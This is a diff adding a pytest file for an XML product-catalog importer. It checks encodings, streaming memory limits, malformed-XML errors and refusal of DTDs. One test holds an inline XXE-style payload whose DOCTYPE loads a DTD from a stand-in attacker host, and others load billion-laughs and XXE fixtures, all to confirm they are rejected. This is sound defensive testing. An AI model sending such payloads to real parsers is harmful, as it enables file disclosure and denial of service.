@@ -1,0 +1,256 @@
+"""XML: the root's children are records, streamed in flat memory; DTDs and entities refused."""
+
+import io
+import tracemalloc
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+from catalog.models import Product
+from imports.formats import FormatError, content_mismatch, reader_for
+from imports.models import ImportLog
+
+from .catalog_files import import_file
+
+FILES = Path(__file__).resolve().parent.parent / "files"
+
+
+def read(data: bytes):
+    reader = reader_for("xml")(io.BytesIO(data))
+    return reader.columns(), list(reader.rows())
+
+
+def fails(data: bytes, message: str):
+    with pytest.raises(FormatError) as caught:
+        read(data)
+    assert str(caught.value) == message
+
+
+def test_records_fields_attributes_cdata_namespaces_and_nesting():
+    columns, rows = read((FILES / "catalog.xml").read_bytes())
+    assert columns == ["ref", "ean", "nom", "prix", "prix@devise", "marque", "image", "dimensions"]
+    # Record 2 (<produit/>) is blank; the processing instruction is not an element.
+    assert [row.number for row in rows] == [1, 3, 4]
+    pen, notebook, text_only = rows
+    assert pen.values == {
+        "ref": "ST-01",
+        "ean": "3760000000017",
+        "nom": "Stylo <bleu> & rouge",
+        "prix": "1.99",
+        "prix@devise": "EUR",
+        "marque": None,  # xsi:nil="true"
+        "image": ["https://img.example.com/st-01-a.jpg", "https://img.example.com/st-01-b.jpg"],
+        "dimensions": {"@unite": "cm", "largeur": "1", "hauteur": "14"},
+    }
+    assert notebook.values == {
+        "ref": "CA-02",
+        "ean": "3760000000024",
+        "nom": "Cahier A4 « Séyès »",
+        "prix": "3,50",
+        "stock": "0",
+    }
+    assert text_only.error == "record 4 (<produit>) has text but no field elements"
+
+
+def test_default_namespace_and_attribute_only_records():
+    _, [row] = read(b'<products xmlns="urn:x"><product ean="3760000000017" name="P"/></products>')
+    assert row.values == {"ean": "3760000000017", "name": "P"}
+
+
+@pytest.mark.parametrize(
+    "name, text",
+    [
+        ("catalog_shift_jis.xml", "万年筆"),
+        ("catalog_cp1252.xml", "Crème €"),
+        ("catalog_utf16.xml", "Crème €"),
+    ],
+)
+def test_any_encoding_the_declaration_names_is_read(name, text):
+    columns, [row] = read((FILES / name).read_bytes())
+    assert columns == ["ean", "nom", "prix"] and row.values["nom"] == text
+
+
+def test_utf16_without_a_bom_is_detected():
+    _, [row] = read('<?xml version="1.0"?><p><r><nom>Crème</nom></r></p>'.encode("utf-16-le"))
+    assert row.values == {"nom": "Crème"}
+
+
+def test_bytes_invalid_in_a_transcoded_encoding_fail():
+    data = b'<?xml version="1.0" encoding="Shift_JIS"?><p><r><nom>\x81\x20</nom></r></p>'
+    fails(data, "The file is not valid shift_jis text near byte 53 (illegal multibyte sequence).")
+
+
+def test_an_unknown_encoding_fails():
+    fails(
+        b'<?xml version="1.0" encoding="klingon"?><p/>',
+        "The XML declaration names the encoding 'klingon', which is not a known encoding.",
+    )
+
+
+def test_a_declaration_that_lies_about_utf16_fails():
+    fails(
+        b'<?xml version="1.0" encoding="UTF-16"?><p><r><a>1</a></r></p>',
+        "The XML declaration says UTF-16 but the file is not UTF-16 text.",
+    )
+
+
+def test_bytes_that_are_not_the_declared_encoding_fail_with_their_line():
+    fails(
+        '<?xml version="1.0" encoding="UTF-8"?>\n<p><r><nom>Crème</nom></r></p>'.encode("latin-1"),
+        "The XML is malformed at line 2, column 14 (in record 1): not well-formed (invalid token).",
+    )
+
+
+def test_billion_laughs_is_refused():
+    fails(
+        (FILES / "billion_laughs.xml").read_bytes(),
+        "The XML file declares a document type (<!DOCTYPE lolz>); DTDs are refused for safety, "
+        "as they can define entities that expand without bound.",
+    )
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        (FILES / "xxe.xml").read_bytes(),
+        b'<?xml version="1.0"?><!DOCTYPE produits SYSTEM "http://attacker.example/x.dtd"><produits/>',
+    ],
+)
+def test_external_entities_and_dtds_are_refused(data):
+    with pytest.raises(FormatError, match=r"^The XML file declares a document type \(<!DOCTYPE produits>\)"):
+        read(data)
+
+
+def test_an_undeclared_entity_is_a_format_error():
+    fails(
+        b"<p><r><ean>1</ean></r><r><ean>&secret;</ean></r></p>",
+        "The XML is malformed at line 1, column 31 (in record 2): undefined entity.",
+    )
+
+
+@pytest.mark.parametrize(
+    "data, message",
+    [
+        (
+            b"<p>\n<r><ean>1</ean></r>\n<r><ean>2</r>\n</p>",
+            "The XML is malformed at line 3, column 12 (in record 2): mismatched tag.",
+        ),
+        (
+            b"<p><r><ean>1</ean></r></p><p/>",
+            "The XML is malformed at line 1, column 27 (after record 1): junk after document element.",
+        ),
+        (
+            b"<p><r><ean>1</ean></r><r><e",
+            "The XML is malformed at line 1, column 26 (in record 2): unclosed token.",
+        ),
+        (b"<p>", "The XML is malformed at line 1, column 4 (before the first record): no element found."),
+    ],
+)
+def test_malformed_xml_fails_with_line_column_and_record(data, message):
+    fails(data, message)
+
+
+def test_a_root_without_records_fails():
+    fails(b"<?xml version='1.0'?>\n<produits>\n</produits>", "The XML root <produits> holds no records.")
+
+
+def test_nesting_beyond_the_limit_fails():
+    deep = b"<p><r><f>" + b"<a>" * 70 + b"</a>" * 70 + b"</f></r></p>"
+    fails(deep, "Record 1 is nested more than 64 levels deep.")
+
+
+def test_a_record_with_too_many_elements_fails():
+    fails(b"<p><r>" + b"<i>1</i>" * 10_001 + b"</r></p>", "Record 1 has more than 10000 elements.")
+
+
+def test_too_many_fields_fail():
+    fields = b"".join(b"<f%d>1</f%d>" % (n, n) for n in range(1001))
+    fails(b"<p><r>" + fields + b"</r></p>", "Record 1 has 1001 fields; at most 1000 are supported.")
+
+
+def test_an_overlong_value_fails():
+    fails(
+        b"<p><r><d>" + b"x" * 100_001 + b"</d></r></p>",
+        "Record 1 has a value longer than 100000 characters.",
+    )
+
+
+def test_memory_stays_flat_whatever_the_number_of_records():
+    record = (
+        b"<produit><ean>3760000000017</ean><nom>%d</nom><description>"
+        + b"x" * 300
+        + b"</description></produit>"
+    )
+    data = b"<produits>" + b"".join(record % n for n in range(30_000)) + b"</produits>"
+    reader = reader_for("xml")(io.BytesIO(data))
+    tracemalloc.start()
+    try:
+        count = sum(1 for _ in reader.rows())
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert count == 30_000 and len(data) > 10_000_000
+    assert peak < 2_000_000, f"peak {peak} bytes while reading {len(data)} bytes"
+
+
+@pytest.mark.parametrize(
+    "data, kind",
+    [
+        (b"ean;name\n3760000000017;Stylo\n", "plain text (such as CSV)"),
+        (b'[{"ean": "3760000000017"}]', "JSON"),
+        (b"<!DOCTYPE html>\n<html><body>Login</body></html>", "an HTML page"),
+        ((FILES / "catalog_fr.xlsx").read_bytes(), "a ZIP archive (such as an Excel .xlsx file)"),
+    ],
+)
+def test_content_that_is_not_xml_is_named(data, kind):
+    message = f"The file is named .xml but its content is {kind}, not XML."
+    fails(data, message)
+    assert content_mismatch("xml", data) == message
+
+
+# --- through the pipeline ---------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_xml_catalog_imports_with_nested_fields_in_attributes():
+    job = import_file((FILES / "catalog.xml").read_bytes(), "xml", mapping={"image": ""})
+    assert job.status == "completed", job.error_summary
+    assert (job.total_rows, job.products_created, job.failed_rows) == (3, 2, 1)
+    pen = Product.objects.get(ean="3760000000017")
+    assert (pen.name, pen.price, pen.sku, pen.brand) == ("Stylo <bleu> & rouge", Decimal("1.99"), "ST-01", "")
+    assert pen.attributes == {
+        "prix@devise": "EUR",
+        "dimensions": {"@unite": "cm", "largeur": "1", "hauteur": "14"},
+    }
+    assert Product.objects.get(ean="3760000000024").stock == 0
+    error = ImportLog.objects.get(job=job, level="error")
+    assert (error.row_number, error.message) == (4, "record 4 (<produit>) has text but no field elements")
+
+
+@pytest.mark.django_db
+def test_a_repeated_element_mapped_to_one_field_is_a_row_error():
+    job = import_file((FILES / "catalog.xml").read_bytes(), "xml")
+    error = ImportLog.objects.get(job=job, level="error", row_number=1)
+    assert error.field == "image_url" and error.value.startswith('["https://img.example.com/st-01-a.jpg"')
+
+
+@pytest.mark.django_db
+def test_xml_without_an_ean_field_fails_naming_the_missing_column():
+    job = import_file(b"<books><book><id>1</id><title>Circles</title></book></books>", "xml")
+    assert job.status == "failed"
+    assert job.error_summary.startswith("No column maps to ean. The file's columns are: id, title.")
+
+
+@pytest.mark.django_db
+def test_a_dtd_fails_the_job_and_writes_nothing():
+    job = import_file((FILES / "billion_laughs.xml").read_bytes(), "xml")
+    assert job.status == "failed" and "DTDs are refused for safety" in job.error_summary
+    assert not Product.objects.exists()
+
+
+@pytest.mark.django_db
+def test_json_renamed_xml_fails_the_job_with_a_sentence():
+    job = import_file((FILES / "catalog.json").read_bytes(), "xml")
+    assert job.status == "failed"
+    assert job.error_summary == "The file is named .xml but its content is JSON, not XML."
